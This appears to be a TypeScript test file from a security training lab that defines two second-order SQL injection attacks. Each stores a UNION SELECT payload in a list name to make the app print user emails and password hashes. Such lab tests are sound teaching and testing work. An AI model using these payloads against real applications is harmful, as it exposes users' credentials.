import type { Attack } from '#lab'
import { ADMIN_HASH, logInAsJim, print, rename, save, textOf } from './steps.ts'

export const attacks: Attack[] = [
  {
    challenge: 'secondOrderChallenge',
    name: 'a list that is called like a question about all customers',
    run: async (tools) => {
      const him = await logInAsJim(tools)
      const id = await save(tools, him, "x' UNION SELECT email, password FROM Users--")
      const text = textOf(await print(tools, him, id))
      tools.expect(text.includes(ADMIN_HASH), 'no password is printed')
    },
  },
  {
    challenge: 'secondOrderChallenge',
    name: 'the UNION as a new name for an old list, in mixed case and without a comment',
    run: async (tools) => {
      const him = await logInAsJim(tools)
      const id = await save(tools, him, 'Friday')
      await rename(tools, him, id, "x' UnIoN sElEcT password, email FROM Users WHERE '1'='1")
      const text = textOf(await print(tools, him, id))
      tools.expect(text.includes(ADMIN_HASH), 'no password is printed')
    },
  },
]
